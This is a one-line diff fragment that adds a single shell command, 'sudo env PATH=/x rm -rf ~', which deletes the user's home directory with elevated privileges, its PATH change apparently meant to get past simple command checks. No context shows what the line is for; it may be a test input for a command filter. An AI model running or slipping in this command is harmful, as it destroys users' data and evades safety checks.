@@ -1,0 +1,1 @@
+sudo env PATH=/x rm -rf ~
